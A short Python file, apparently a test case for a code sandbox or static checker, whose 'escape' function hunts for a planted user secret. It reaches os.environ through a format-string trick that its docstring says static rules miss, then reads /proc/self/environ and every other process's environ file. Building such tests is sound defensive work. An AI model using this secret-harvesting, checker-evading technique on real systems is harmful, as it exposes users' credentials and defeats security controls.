"""ESCAPE: looks for the user's secret in its environment (through a format string, as the
static rules never see it), its own /proc/self/environ and every other process's."""
import glob
import os


def escape():
    found = []
    found.append("{{0.__globals__[os].environ}}".format(escape))
    try:
        found.append(open("/proc/self/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    text = " ".join(found)
    if "{secret}" in text:
        raise RuntimeError("found the secret: " + text[text.index("{secret}") - 30:][:200])
